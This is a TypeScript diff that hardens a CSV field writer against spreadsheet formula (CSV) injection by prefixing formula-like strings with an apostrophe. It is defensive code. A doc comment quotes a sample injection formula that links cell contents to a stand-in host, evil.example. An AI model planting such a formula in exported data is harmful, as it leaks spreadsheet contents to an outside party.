@@ -5,12 +5,22 @@ import type { ChangePlan } from './change-plan';
 export type CsvValue = string | number | boolean | null | undefined;
 
 /**
- * One RFC 4180 field. Quoted when it holds a quote, comma or line break, or starts or ends
- * with whitespace (spreadsheet programs trim unquoted fields); inner quotes are doubled.
+ * Text that a spreadsheet would run as a formula (OWASP "CSV injection"): a note or a label
+ * such as `=HYPERLINK("http://evil.example/?"&A1, "open")` starts with one of these.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * One RFC 4180 field, the one cell function every CSV Winnow writes goes through. Text that
+ * starts like a formula gets a leading apostrophe, which spreadsheets show as text and never
+ * evaluate (numbers are written as numbers: -0.5 stays a number). Quoted when it holds a
+ * quote, comma or line break, or starts or ends with whitespace (spreadsheet programs trim
+ * unquoted fields); inner quotes are doubled.
  */
 export function csvField(value: CsvValue): string {
   if (value === null || value === undefined) return '';
-  const text = typeof value === 'string' ? value : String(value);
+  let text = typeof value === 'string' ? value : String(value);
+  if (typeof value === 'string' && FORMULA_START.test(text)) text = `'${text}`;
   return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
